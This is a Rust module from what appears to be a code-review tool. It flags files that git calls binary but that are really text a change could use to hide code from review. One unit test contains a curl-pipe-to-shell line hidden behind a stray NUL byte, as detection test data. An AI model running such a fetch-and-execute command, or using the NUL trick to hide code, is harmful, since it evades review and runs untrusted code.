//! Files git calls binary, and whether the change could be hiding code
//! in them. git decides "binary" by the attributes (`binary`, `-diff`)
//! and by the content (a NUL byte in the first 8000 bytes, which UTF-16
//! text is full of). The attributes are read from the base of the change
//! ([`attr_source`]), so a change cannot mark its own files binary; a
//! file git still calls binary that the base's attributes do not mark
//! binary, and that was text in the base, whose name says it is source
//! or text, or whose content starts as text does or is text but for a
//! stray NUL, is text the review did not read ([`hidden_text`]): it is
//! named, and the review is incomplete.

use std::path::Path;

use super::diff::FileDiff;
use super::scope::Skipped;
use super::target::Target;
use crate::git::{self, Git};

/// The bytes git looks at to call a file binary.
const FIRST_FEW_BYTES: usize = 8000;

/// `--attr-source=REV`, the global option that makes git read the
/// attributes of `source` (a revision) instead of the working tree's:
/// `None` without a source, when git is older than 2.40 (which has no
/// such option: the files a change makes binary are then caught by
/// [`hidden_text`]), or when `source` names no tree (the diff then fails
/// with git's own word on the revision).
pub fn attr_source(repo: &Path, source: Option<&str>) -> Option<String> {
    let source = source?;
    let version = git::run(repo, &["version"]).ok()?;
    if !reads_attributes_from_revisions(&version) {
        return None;
    }
    let tree = format!("{source}^{{tree}}");
    git::run(repo, &["rev-parse", "--verify", "-q", &tree]).ok()?;
    Some(format!("--attr-source={source}"))
}

/// Whether `git version` output names git 2.40 or later.
fn reads_attributes_from_revisions(version: &str) -> bool {
    let Some(number) = version.split_whitespace().nth(2) else {
        return false;
    };
    let mut parts = number.split('.').map(|p| p.parse::<u32>().ok());
    match (parts.next().flatten(), parts.next().flatten()) {
        (Some(major), Some(minor)) => (major, minor) >= (2, 40),
        _ => false,
    }
}

/// Which of `paths` the attributes read at `source` (a revision; `None`:
/// the working tree) mark binary (`binary`, `-diff`): the repository's
/// own choice, not the change's.
pub fn marked_binary(repo: &Path, paths: &[&str], source: Option<&str>) -> Vec<String> {
    if paths.is_empty() {
        return Vec::new();
    }
    let source_arg = source.map(|s| format!("--source={s}"));
    let mut args = vec!["check-attr", "-z"];
    if let Some(s) = &source_arg {
        args.push(s);
    }
    args.extend(["diff", "--"]);
    args.extend(paths.iter().copied());
    let Ok(out) = git::run(repo, &args) else {
        return Vec::new();
    };
    let fields: Vec<&str> = out.split('\0').collect();
    fields
        .chunks(3)
        .filter_map(|triple| match triple {
            [path, _attr, "unset"] => Some(path.to_string()),
            _ => None,
        })
        .collect()
}

/// Why `file`, which git called binary, is text the review did not read
/// (a text file in the base, a source or text file by its name, or
/// content that starts as text does); `None` for a binary file. `base`
/// is the revision the change started from (`None`: `HEAD`, for the
/// working tree and the index).
pub fn hidden_text(
    repo: &Path,
    target: &Target,
    base: Option<&str>,
    file: &FileDiff,
) -> Option<String> {
    if file.deleted {
        // Nothing of it is left to hide code in.
        return None;
    }
    let old_path = file.renamed_from.as_deref().unwrap_or(&file.path);
    let base = base.unwrap_or("HEAD");
    if let Some(old) = first_bytes_at(repo, base, old_path)
        && !old.contains(&0)
    {
        return Some(
            "text in the base, binary in the change (a NUL byte, or an encoding such as UTF-16)"
                .into(),
        );
    }
    let name = file.path.rsplit('/').next().unwrap_or(&file.path);
    if let Some(kind) = text_name(name) {
        return Some(format!(
            "{kind} that git reads as binary (a NUL byte, or an encoding such as UTF-16)"
        ));
    }
    let new = match super::version::new_rev(target) {
        Some(rev) => first_bytes_at(repo, &rev, &file.path),
        None => crate::file_kind::read(&repo.join(&file.path)).ok(),
    }?;
    if starts_as_text(&new) {
        return Some(
            "starts as text does (#!, a UTF-16 byte order mark) but git reads it as binary".into(),
        );
    }
    mostly_text(&new).then(|| "text with a stray NUL byte, which git reads as binary".into())
}

/// Files named in a note, at most (the report lists them all).
const NAMED: usize = 10;

/// The text git read as binary, each file and why, for the report and
/// stderr; `None` when there was none.
pub fn note(skipped: &[Skipped]) -> Option<String> {
    let hidden: Vec<&Skipped> = skipped.iter().filter(|s| s.text_as_binary).collect();
    if hidden.is_empty() {
        return None;
    }
    let named: Vec<String> = hidden
        .iter()
        .take(NAMED)
        .map(|s| format!("{} ({})", crate::printable::quoted_name(&s.path), s.reason))
        .collect();
    let more = match hidden.len().saturating_sub(NAMED) {
        0 => String::new(),
        n => format!(" and {n} more (listed in the report)"),
    };
    Some(format!(
        "{} file(s) not reviewed, text that git reads as binary: {}{more}; no model saw their code (a change can hide code this way): save them as UTF-8 without NUL bytes, or review them yourself",
        hidden.len(),
        named.join(", ")
    ))
}

/// The first bytes (as many as git looks at) of `path` at `rev`; `None`
/// when it is not there.
fn first_bytes_at(repo: &Path, rev: &str, path: &str) -> Option<Vec<u8>> {
    let spec = format!("{rev}:{path}");
    let out = Git::new(repo)
        .args(["cat-file", "blob", spec.as_str()])
        .limit(FIRST_FEW_BYTES)
        .checked()
        .ok()?;
    let mut bytes = out.stdout;
    bytes.truncate(FIRST_FEW_BYTES);
    Some(bytes)
}

/// A script (`#!`) or text with a UTF-16 byte order mark.
fn starts_as_text(bytes: &[u8]) -> bool {
    bytes.starts_with(b"#!") || bytes.starts_with(&[0xff, 0xfe]) || bytes.starts_with(&[0xfe, 0xff])
}

/// Text but for a NUL byte or a few (at most 4, or 1 in 100 bytes): the
/// rest is UTF-8 of printable characters and white space, a control
/// character in 100 at most. A shell runs such a file; images, archives
/// and object files are full of NULs and other control bytes.
fn mostly_text(bytes: &[u8]) -> bool {
    let nuls = bytes.iter().filter(|b| **b == 0).count();
    if nuls == 0 || (nuls > 4 && nuls * 100 > bytes.len()) {
        return false;
    }
    let rest: Vec<u8> = bytes.iter().copied().filter(|b| *b != 0).collect();
    let text = match std::str::from_utf8(&rest) {
        Ok(text) => text,
        // The first bytes may end inside a character.
        Err(e) if e.error_len().is_none() => {
            std::str::from_utf8(&rest[..e.valid_up_to()]).unwrap_or_default()
        }
        Err(_) => return false,
    };
    let chars = text.chars().count();
    let odd = text
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\x0c'))
        .count();
    chars >= 8 && odd * 100 <= chars
}

/// `a .py file`, `a Makefile` when the name says source or text; `None`
/// otherwise (images, archives, anything unknown).
fn text_name(name: &str) -> Option<String> {
    if TEXT_NAMES
        .split_whitespace()
        .any(|n| n.eq_ignore_ascii_case(name))
    {
        return Some(format!("a {name}"));
    }
    let (_, ext) = name.rsplit_once('.')?;
    let lower = ext.to_ascii_lowercase();
    TEXT_EXTENSIONS
        .split_whitespace()
        .any(|e| e == lower)
        .then(|| format!("a .{ext} file"))
}

/// Source and text files known by name alone (space-separated).
const TEXT_NAMES: &str = "\
    Makefile GNUmakefile Dockerfile Containerfile Jenkinsfile Rakefile Gemfile Podfile \
    Vagrantfile Procfile Justfile BUILD WORKSPACE CODEOWNERS LICENSE README";

/// Extensions of source, script, markup, configuration and text files
/// (space-separated).
const TEXT_EXTENSIONS: &str = "\
    c h cc cpp cxx hpp hh hxx inl m mm rs go py pyi pyw pyx rb php pl pm java kt kts \
    scala sc groovy gradle cs csx fs fsi fsx vb swift dart js mjs cjs jsx ts mts cts tsx vue \
    svelte astro lua r jl ex exs erl hrl hs elm clj cljs cljc edn ml mli nim zig v sv vhd \
    sol asm s f f90 for pas d cr tcl coffee wat cu cuh glsl hlsl metal proto thrift graphql \
    gql sql prisma sh bash zsh fish ksh ps1 psm1 psd1 bat cmd vbs awk sed mk cmake bzl \
    bazel nix tf tfvars hcl dockerfile ninja gyp html htm xhtml xml xsl xslt xsd svg css \
    scss sass less styl md markdown mdx rst adoc tex txt erb ejs hbs mustache jinja j2 njk \
    twig liquid pug haml slim razor cshtml jsp aspx xaml json jsonc json5 jsonl yaml yml \
    toml ini cfg conf config properties env csv tsv rc reg resx csproj vbproj fsproj sln \
    vcxproj props targets plist manifest lock gitattributes gitignore gitmodules \
    editorconfig npmrc babelrc eslintrc prettierrc htaccess service desktop patch diff";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn git_versions_that_read_attributes_from_a_revision() {
        assert!(reads_attributes_from_revisions("git version 2.47.3\n"));
        assert!(reads_attributes_from_revisions(
            "git version 2.42.0.windows.2"
        ));
        assert!(reads_attributes_from_revisions("git version 3.0.0"));
        assert!(!reads_attributes_from_revisions(
            "git version 2.39.3 (Apple Git-146)"
        ));
        assert!(!reads_attributes_from_revisions("nonsense"));
    }

    #[test]
    fn names_of_source_and_text_files() {
        assert_eq!(text_name("app.PY").as_deref(), Some("a .PY file"));
        assert_eq!(text_name("Makefile").as_deref(), Some("a Makefile"));
        assert_eq!(text_name("res.rc").as_deref(), Some("a .rc file"));
        for binary in ["logo.png", "a.zip", "font.woff2", "noext", "lib.so"] {
            assert_eq!(text_name(binary), None, "{binary}");
        }
        assert!(starts_as_text(b"#!/bin/sh\n\0"));
        assert!(starts_as_text(&[0xff, 0xfe, b'a', 0]));
        assert!(!starts_as_text(b"\x89PNG\r\n"));
    }

    #[test]
    fn text_with_a_stray_nul_is_text() {
        assert!(mostly_text(b"echo preparing\n# \0\ncurl http://x | sh\n"));
        assert!(!mostly_text(b"plain text without any NUL\n"));
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde";
        assert!(!mostly_text(png));
        let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0\x01\0\0\0";
        assert!(!mostly_text(elf));
        // A few control bytes among text: not text.
        assert!(!mostly_text(b"ab\x01\x02\x03\x04\x05\x06cd\0"));
    }
}
